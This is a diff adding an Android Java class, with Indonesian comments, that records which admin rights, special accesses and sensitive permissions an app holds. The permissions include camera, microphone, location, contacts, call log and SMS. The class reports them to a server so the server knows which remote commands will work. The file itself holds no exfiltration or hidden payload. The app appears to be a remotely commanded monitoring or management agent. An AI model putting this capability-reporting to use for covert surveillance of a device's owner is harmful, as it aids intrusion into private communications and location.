@@ -0,0 +1,331 @@
+package com.idsiber.eye;
+
+import android.Manifest;
+import android.app.AppOpsManager;
+import android.app.admin.DevicePolicyManager;
+import android.content.ComponentName;
+import android.content.Context;
+import android.content.pm.PackageManager;
+import android.database.ContentObserver;
+import android.os.Build;
+import android.os.Environment;
+import android.os.PowerManager;
+import android.os.Process;
+import android.os.SystemClock;
+import android.provider.Settings;
+
+import androidx.core.app.NotificationManagerCompat;
+
+import org.json.JSONException;
+import org.json.JSONObject;
+
+import java.util.concurrent.CopyOnWriteArraySet;
+
+/**
+ * Manifest kemampuan device yang dikirim saat register_device, supaya server
+ * tahu command mana yang bisa jalan tanpa harus mencoba satu per satu.
+ *
+ * Sekaligus menjadi cache status izin/admin untuk handler: pengecekan
+ * seperti isAdminActive() dan hasPermission() dibaca dari snapshot, bukan
+ * binder call. Snapshot diperbarui saat admin aktif/nonaktif, saat app
+ * resume, dan saat app-op (usage access, write settings, all files access)
+ * atau notification listener berubah. Hasil "ditolak" yang sudah lebih tua
+ * dari DENIED_RECHECK_MS dicek ulang sekali, jaga-jaga ada perubahan yang
+ * tidak mengirim callback.
+ *
+ * Format ringkas (versi MANIFEST_VERSION):
+ *   "bits"  - bitmap kemampuan, lihat konstanta CAP_*
+ *   "perms" - satu karakter per permission di PERMISSIONS, '1' = granted
+ *
+ * Urutan bit dan PERMISSIONS hanya boleh ditambah di belakang; server
+ * (src/utils/capabilities.js) memakai urutan yang sama.
+ */
+public class DeviceCapabilities {
+    private static final String TAG = "DeviceCapabilities";
+    private static final long DENIED_RECHECK_MS = 30 * 1000L;
+    private static final String ENABLED_NOTIFICATION_LISTENERS = "enabled_notification_listeners";
+
+    public static final int MANIFEST_VERSION = 1;
+
+    public static final int CAP_ADMIN_ACTIVE = 1;
+    public static final int CAP_DEVICE_OWNER = 1 << 1;
+    public static final int CAP_USAGE_ACCESS = 1 << 2;
+    public static final int CAP_NOTIFICATION_LISTENER = 1 << 3;
+    public static final int CAP_WRITE_SETTINGS = 1 << 4;
+    public static final int CAP_ALL_FILES_ACCESS = 1 << 5;
+    public static final int CAP_WIFI_TOGGLE = 1 << 6;
+    public static final int CAP_LOCATION_TOGGLE = 1 << 7;
+    public static final int CAP_CAMERA = 1 << 8;
+    public static final int CAP_TELEPHONY = 1 << 9;
+    public static final int CAP_IGNORING_BATTERY_OPTIMIZATIONS = 1 << 10;
+
+    public static final String[] PERMISSIONS = {
+        Manifest.permission.CAMERA,
+        Manifest.permission.RECORD_AUDIO,
+        Manifest.permission.ACCESS_FINE_LOCATION,
+        Manifest.permission.ACCESS_COARSE_LOCATION,
+        Manifest.permission.READ_CONTACTS,
+        Manifest.permission.READ_CALL_LOG,
+        Manifest.permission.READ_SMS,
+        Manifest.permission.READ_PHONE_STATE,
+        Manifest.permission.READ_EXTERNAL_STORAGE,
+        Manifest.permission.WRITE_EXTERNAL_STORAGE
+    };
+
+    public interface ChangeListener {
+        void onCapabilitiesChanged(DeviceCapabilities capabilities);
+    }
+
+    private static DeviceCapabilities instance;
+
+    private final Context context;
+    // Dipakai ulang di setiap compute()
+    private final ComponentName adminComponent;
+    private final CopyOnWriteArraySet<ChangeListener> listeners = new CopyOnWriteArraySet<>();
+    private final boolean[] granted = new boolean[PERMISSIONS.length];
+    private int bits;
+    private String permissions;
+    private long computedAt;
+
+    private DeviceCapabilities(Context context) {
+        this.context = context;
+        this.adminComponent = new ComponentName(context, IdSiberDeviceAdminReceiver.class);
+        compute();
+    }
+
+    public static synchronized DeviceCapabilities getInstance(Context context) {
+        if (instance == null) {
+            instance = new DeviceCapabilities(context.getApplicationContext());
+            instance.watchSpecialAccess();
+        }
+        return instance;
+    }
+
+    public void addListener(ChangeListener listener) {
+        listeners.add(listener);
+    }
+
+    public void removeListener(ChangeListener listener) {
+        listeners.remove(listener);
+    }
+
+    public synchronized int getBits() {
+        return bits;
+    }
+
+    /**
+     * Cek kemampuan dari snapshot. Jika ditolak dan snapshot sudah cukup lama,
+     * hitung ulang sekali sebelum menjawab.
+     */
+    public boolean has(int capability) {
+        synchronized (this) {
+            if ((bits & capability) != 0 || !isStale()) {
+                return (bits & capability) != 0;
+            }
+        }
+        refresh();
+        synchronized (this) {
+            return (bits & capability) != 0;
+        }
+    }
+
+    public boolean isAdminActive() {
+        return has(CAP_ADMIN_ACTIVE);
+    }
+
+    /**
+     * Bit admin dari snapshot tanpa recheck "ditolak". Untuk jalur heartbeat:
+     * DENIED_RECHECK_MS sama dengan interval heartbeat, jadi has() akan
+     * menjalankan compute() (binder call dan alokasi) di setiap heartbeat.
+     * Perubahan admin tetap masuk lewat callback IdSiberDeviceAdminReceiver.
+     */
+    public synchronized boolean isAdminActiveCached() {
+        return (bits & CAP_ADMIN_ACTIVE) != 0;
+    }
+
+    public boolean hasUsageAccess() {
+        return has(CAP_USAGE_ACCESS);
+    }
+
+    public boolean canWriteSettings() {
+        return has(CAP_WRITE_SETTINGS);
+    }
+
+    /**
+     * Cek runtime permission dari snapshot. Permission di luar PERMISSIONS
+     * tetap dicek langsung ke sistem.
+     */
+    public boolean hasPermission(String permission) {
+        int index = indexOf(permission);
+        if (index < 0) {
+            return context.checkSelfPermission(permission) == PackageManager.PERMISSION_GRANTED;
+        }
+        synchronized (this) {
+            if (granted[index] || !isStale()) {
+                return granted[index];
+            }
+        }
+        refresh();
+        synchronized (this) {
+            return granted[index];
+        }
+    }
+
+    public synchronized String getPermissions() {
+        return permissions;
+    }
+
+    /**
+     * Hitung ulang kemampuan device. Listener hanya dipanggil jika ada yang
+     * berubah, jadi aman dipanggil dari onResume atau callback admin.
+     *
+     * @return true jika manifest berubah
+     */
+    public boolean refresh() {
+        boolean changed;
+        synchronized (this) {
+            int oldBits = bits;
+            String oldPermissions = permissions;
+            compute();
+            changed = oldBits != bits || !oldPermissions.equals(permissions);
+        }
+        if (changed) {
+            AppLog.i(TAG, "Capabilities changed: {}", this);
+            for (ChangeListener listener : listeners) {
+                listener.onCapabilitiesChanged(this);
+            }
+        }
+        return changed;
+    }
+
+    public synchronized JSONObject toJson() throws JSONException {
+        JSONObject json = new JSONObject();
+        json.put("v", MANIFEST_VERSION);
+        json.put("bits", bits);
+        json.put("perms", permissions);
+        json.put("sdk", Build.VERSION.SDK_INT);
+        return json;
+    }
+
+    @Override
+    public synchronized String toString() {
+        return "bits=" + Integer.toBinaryString(bits) + " perms=" + permissions;
+    }
+
+    private void compute() {
+        String packageName = context.getPackageName();
+        PackageManager pm = context.getPackageManager();
+        int result = 0;
+
+        DevicePolicyManager dpm = (DevicePolicyManager) context.getSystemService(Context.DEVICE_POLICY_SERVICE);
+        if (dpm != null) {
+            if (dpm.isAdminActive(adminComponent)) {
+                result |= CAP_ADMIN_ACTIVE;
+            }
+            if (dpm.isDeviceOwnerApp(packageName)) {
+                result |= CAP_DEVICE_OWNER;
+            }
+        }
+
+        if (queryUsageAccess()) {
+            result |= CAP_USAGE_ACCESS;
+        }
+        if (NotificationManagerCompat.getEnabledListenerPackages(context).contains(packageName)) {
+            result |= CAP_NOTIFICATION_LISTENER;
+        }
+        if (Settings.System.canWrite(context)) {
+            result |= CAP_WRITE_SETTINGS;
+        }
+        if (Build.VERSION.SDK_INT >= Build.VERSION_CODES.R
+                ? Environment.isExternalStorageManager()
+                : context.checkSelfPermission(Manifest.permission.READ_EXTERNAL_STORAGE) == PackageManager.PERMISSION_GRANTED) {
+            result |= CAP_ALL_FILES_ACCESS;
+        }
+
+        // Batasan versi Android yang sudah dicek di NetworkHandler dan LocationHandler
+        if (Build.VERSION.SDK_INT < Build.VERSION_CODES.Q) {
+            result |= CAP_WIFI_TOGGLE;
+        }
+        if (Build.VERSION.SDK_INT < Build.VERSION_CODES.P) {
+            result |= CAP_LOCATION_TOGGLE;
+        }
+
+        if (pm.hasSystemFeature(PackageManager.FEATURE_CAMERA_ANY)) {
+            result |= CAP_CAMERA;
+        }
+        if (pm.hasSystemFeature(PackageManager.FEATURE_TELEPHONY)) {
+            result |= CAP_TELEPHONY;
+        }
+
+        PowerManager powerManager = (PowerManager) context.getSystemService(Context.POWER_SERVICE);
+        if (powerManager != null && powerManager.isIgnoringBatteryOptimizations(packageName)) {
+            result |= CAP_IGNORING_BATTERY_OPTIMIZATIONS;
+        }
+
+        StringBuilder perms = new StringBuilder(PERMISSIONS.length);
+        for (int i = 0; i < PERMISSIONS.length; i++) {
+            granted[i] = context.checkSelfPermission(PERMISSIONS[i]) == PackageManager.PERMISSION_GRANTED;
+            perms.append(granted[i] ? '1' : '0');
+        }
+
+        bits = result;
+        permissions = perms.toString();
+        computedAt = SystemClock.elapsedRealtime();
+    }
+
+    private boolean isStale() {
+        return SystemClock.elapsedRealtime() - computedAt > DENIED_RECHECK_MS;
+    }
+
+    private static int indexOf(String permission) {
+        for (int i = 0; i < PERMISSIONS.length; i++) {
+            if (PERMISSIONS[i].equals(permission)) {
+                return i;
+            }
+        }
+        return -1;
+    }
+
+    /**
+     * Izin khusus diubah lewat layar Settings tanpa mematikan proses,
+     * jadi dengarkan perubahannya langsung
+     */
+    private void watchSpecialAccess() {
+        AppOpsManager appOps = (AppOpsManager) context.getSystemService(Context.APP_OPS_SERVICE);
+        if (appOps != null) {
+            AppOpsManager.OnOpChangedListener opListener = new AppOpsManager.OnOpChangedListener() {
+                @Override
+                public void onOpChanged(String op, String packageName) {
+                    refresh();
+                }
+            };
+            String packageName = context.getPackageName();
+            appOps.startWatchingMode(AppOpsManager.OPSTR_GET_USAGE_STATS, packageName, opListener);
+            appOps.startWatchingMode(AppOpsManager.OPSTR_WRITE_SETTINGS, packageName, opListener);
+            if (Build.VERSION.SDK_INT >= Build.VERSION_CODES.R) {
+                appOps.startWatchingMode(AppOpsManager.OPSTR_MANAGE_EXTERNAL_STORAGE, packageName, opListener);
+            }
+        }
+
+        context.getContentResolver().registerContentObserver(
+            Settings.Secure.getUriFor(ENABLED_NOTIFICATION_LISTENERS), false,
+            new ContentObserver(null) {
+                @Override
+                public void onChange(boolean selfChange) {
+                    refresh();
+                }
+            });
+    }
+
+    private boolean queryUsageAccess() {
+        AppOpsManager appOps = (AppOpsManager) context.getSystemService(Context.APP_OPS_SERVICE);
+        if (appOps == null) {
+            return false;
+        }
+        int mode = appOps.checkOpNoThrow(AppOpsManager.OPSTR_GET_USAGE_STATS, Process.myUid(), context.getPackageName());
+        if (mode == AppOpsManager.MODE_DEFAULT) {
+            return context.checkCallingOrSelfPermission(Manifest.permission.PACKAGE_USAGE_STATS) == PackageManager.PERMISSION_GRANTED;
+        }
+        return mode == AppOpsManager.MODE_ALLOWED;
+    }
+}